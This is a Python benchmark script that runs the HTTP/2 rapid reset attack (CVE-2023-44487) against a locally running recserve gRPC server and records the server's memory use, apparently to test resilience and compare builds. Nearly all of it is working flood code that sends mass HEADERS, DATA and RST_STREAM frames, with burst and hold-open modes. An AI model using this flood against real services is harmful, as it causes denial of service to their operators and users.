#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a running recserve, and what it costs the
server's memory: one connection sends N x (HEADERS for /recserve.v1.Recommender/Recommend,
DATA with a small valid request, RST_STREAM CANCEL), as fast as the socket takes them,
while the server's VmRSS is sampled from /proc.

    /usr/bin/python3 bench/http2_rapid_reset.py --port=PORT --pid=PID [--streams=20000]
e.g. build/server/recserve --model_base_path=models/default --port=18500 &
     /usr/bin/python3 bench/http2_rapid_reset.py --port=18500 --pid=$!

--burst=20000 --gap=6 (with --streams=60000) sends bursts of that many triples, pausing
between them, all on the same connection: whether bursts add up.

--hold_open sends no RST_STREAM and never ends the messages instead: many open streams,
the flood --max_concurrent_streams bounds. bench/rapid_reset_side_by_side.sh runs both
against two binaries.

Prints the server's SETTINGS_MAX_CONCURRENT_STREAMS, how the server answered the streams
(responses, RST_STREAM codes, GOAWAY), and RSS: before, peak while attacked (VmRSS
sampled every 20 ms, and VmHWM), and the plateau --settle seconds after the last frame.
"""
import argparse
import socket
import struct
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4
SETTINGS_MAX_CONCURRENT_STREAMS = 3
CANCEL = 8
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):  # HPACK literal header field without indexing, no Huffman
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def varint(n):
    out = b""
    while n >= 0x80:
        out += bytes([n & 0x7F | 0x80])
        n >>= 7
    return out + bytes([n])


def recommend_request():
    """RecommendRequest{n: 10, events: [{item_id: 17, type: CLICK, timestamp_ms: 1.7e12}]}."""
    event = b"\x08" + varint(17) + b"\x10" + varint(2) + b"\x18" + varint(1700000000000)
    message = b"\x12" + varint(len(event)) + event + b"\x20" + varint(10)
    return b"\x00" + struct.pack(">I", len(message)) + message


HEADER_BLOCK = (literal(b":method", b"POST") + literal(b":scheme", b"http") +
                literal(b":path", b"/recserve.v1.Recommender/Recommend") +
                literal(b":authority", b"localhost") + literal(b"content-type", b"application/grpc") +
                literal(b"te", b"trailers"))


def rss_kib(pid, field="VmRSS"):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    raise RuntimeError(f"{field} not in /proc/{pid}/status")


class Reader(threading.Thread):
    """Reads the server's frames: acknowledges SETTINGS and PING, counts the rest."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock, self.lock = sock, threading.Lock()
        self.max_concurrent_streams = None  # None: not advertised (unlimited)
        self.settings_seen = threading.Event()
        self.responses = 0  # streams that got response HEADERS
        self.rst = {}       # RST_STREAM error code -> count
        self.goaway = None  # (last stream id, error code)
        self.closed = False

    def read_exactly(self, n):
        data = b""
        while len(data) < n:
            chunk = self.sock.recv(n - len(data))
            if not chunk:
                raise EOFError
            data += chunk
        return data

    def run(self):
        try:
            while True:
                head = self.read_exactly(9)
                length = int.from_bytes(head[:3], "big")
                kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big") & 0x7FFFFFFF
                payload = self.read_exactly(length)
                with self.lock:
                    if kind == SETTINGS and not flags & ACK:
                        for i in range(0, len(payload), 6):
                            key, value = struct.unpack(">HI", payload[i:i + 6])
                            if key == SETTINGS_MAX_CONCURRENT_STREAMS:
                                self.max_concurrent_streams = value
                        self.sock.sendall(frame(SETTINGS, ACK, 0))
                        self.settings_seen.set()
                    elif kind == PING and not flags & ACK:
                        self.sock.sendall(frame(PING, ACK, 0, payload))
                    elif kind == HEADERS and not flags & END_STREAM:
                        self.responses += 1
                    elif kind == RST_STREAM:
                        code = struct.unpack(">I", payload)[0]
                        self.rst[code] = self.rst.get(code, 0) + 1
                    elif kind == GOAWAY:
                        self.goaway = struct.unpack(">II", payload[:8])
        except (EOFError, OSError):
            pass
        self.closed = True


def attack(port, pid, streams, batch, pause, settle, trace, hold_open, burst=0, gap=0):
    sock = socket.create_connection(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))  # before any ACK
    reader = Reader(sock)
    reader.start()
    reader.settings_seen.wait(10)
    time.sleep(0.2)  # the server has our SETTINGS ACK: its limits apply from here

    before = rss_kib(pid)
    samples, stop = [before], threading.Event()
    timeline = []

    def sample():
        while not stop.is_set():
            samples.append(rss_kib(pid))
            timeline.append((time.time(), samples[-1]))
            time.sleep(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    body = recommend_request()
    start, sent = time.time(), 0
    try:
        while sent < streams:
            if sent and burst and sent % burst == 0:
                time.sleep(gap)  # the server catches up between bursts
            chunk = b""
            for stream in range(2 * sent + 1, 2 * min(sent + batch, streams) + 1, 2):
                if hold_open:  # the message never ends: the stream stays open
                    chunk += frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK) + frame(DATA, 0, stream, body)
                else:
                    chunk += (frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK) + frame(DATA, END_STREAM, stream, body) +
                              frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
            with reader.lock:  # not interleaved with an ACK the reader sends
                sock.sendall(chunk)
            sent = min(sent + batch, streams)
            time.sleep(pause)
    except OSError as e:
        print(f"send failed after {sent} streams: {e}")
    elapsed = time.time() - start
    time.sleep(settle)
    stop.set()
    sampler.join()
    plateau, hwm = rss_kib(pid), rss_kib(pid, "VmHWM")
    sock.close()
    reader.join(2)

    if trace:
        for t, kib in timeline[:: max(1, len(timeline) // 40)]:
            print(f"  t={t - start:6.2f} s  VmRSS {kib / 1024:5.0f} MiB")
    limit = reader.max_concurrent_streams
    print(f"SETTINGS_MAX_CONCURRENT_STREAMS: {'not sent (unlimited)' if limit is None else limit}")
    print(f"sent {sent} x (HEADERS + DATA{'' if hold_open else ' + RST_STREAM'}) in {elapsed:.2f} s on one connection")
    rst = ", ".join(f"{ERROR_NAMES.get(k, k)} {v}" for k, v in sorted(reader.rst.items())) or "none"
    goaway = "none" if reader.goaway is None else \
        f"last stream {reader.goaway[0]}, {ERROR_NAMES.get(reader.goaway[1], reader.goaway[1])}"
    print(f"server: {reader.responses} response headers; RST_STREAM: {rst}; GOAWAY: {goaway}")
    mib = lambda kib: f"{kib / 1024:.0f} MiB"
    print(f"RSS before {mib(before)}, peak {mib(max(samples))} (VmHWM {mib(hwm)}), "
          f"{settle:.0f} s after {mib(plateau)}: +{(max(samples) - before) / 1024:.0f} MiB at peak")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True, help="the server's --port")
    parser.add_argument("--pid", type=int, required=True, help="the server's process id (RSS from /proc)")
    parser.add_argument("--streams", type=int, default=20000, help="HEADERS+DATA+RST_STREAM triples sent")
    parser.add_argument("--batch", type=int, default=100, help="triples per write")
    parser.add_argument("--pause", type=float, default=0, help="seconds to wait after each write")
    parser.add_argument("--settle", type=float, default=5, help="seconds to wait after the last frame")
    parser.add_argument("--hold_open", action="store_true",
                        help="no RST_STREAM and no END_STREAM: every stream stays open (many open streams, not resets)")
    parser.add_argument("--burst", type=int, default=0,
                        help="triples per burst (a multiple of --batch; 0: one burst of --streams)")
    parser.add_argument("--gap", type=float, default=5, help="seconds between bursts, on the same connection")
    parser.add_argument("--trace", action="store_true", help="print VmRSS over time")
    args = parser.parse_args()
    attack(args.port, args.pid, args.streams, args.batch, args.pause, args.settle, args.trace, args.hold_open,
           args.burst, args.gap)


if __name__ == "__main__":
    main()
